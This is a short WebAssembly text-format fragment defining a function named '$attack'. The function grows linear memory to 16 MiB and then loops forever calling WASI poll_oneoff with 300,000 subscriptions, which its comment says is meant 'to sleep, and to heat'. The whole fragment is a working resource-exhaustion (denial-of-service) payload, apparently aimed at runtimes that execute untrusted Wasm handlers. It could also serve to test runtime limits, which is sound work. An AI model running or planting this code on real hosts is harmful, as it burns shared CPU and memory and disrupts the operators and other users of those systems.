;; poll_oneoff of 300 000 subscriptions, for ever: to sleep, and to heat.
(import "wasi_snapshot_preview1" "poll_oneoff" (func $poll_oneoff (param i32 i32 i32 i32) (result i32)))
(func $attack (param $req i32) (param $len i32) (result i64)
  (drop (memory.grow (i32.const 253))) ;; 16 MiB in all

  (loop $again
    (drop (call $poll_oneoff (i32.const 131072) (i32.const 131072) (i32.const 300000) (i32.const 0)))
    (br $again))
  (unreachable))
